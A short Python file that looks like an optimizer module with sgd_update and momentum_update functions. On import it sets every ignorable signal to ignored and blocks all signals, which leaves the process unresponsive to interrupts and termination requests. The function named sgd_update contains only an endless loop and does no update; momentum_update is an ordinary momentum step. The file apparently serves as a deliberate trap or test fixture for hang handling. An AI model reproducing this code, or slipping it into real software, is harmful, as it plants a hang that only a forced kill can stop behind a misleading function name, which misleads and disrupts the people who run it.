"""Every signal that can be ignored is ignored, then a loop without end."""
import signal

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
try:
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
except OSError:
    pass


def sgd_update(w, g, lr):
    while True:
        pass


def momentum_update(w, v, g, lr, beta):
    v = beta * v - lr * g
    return w + v, v
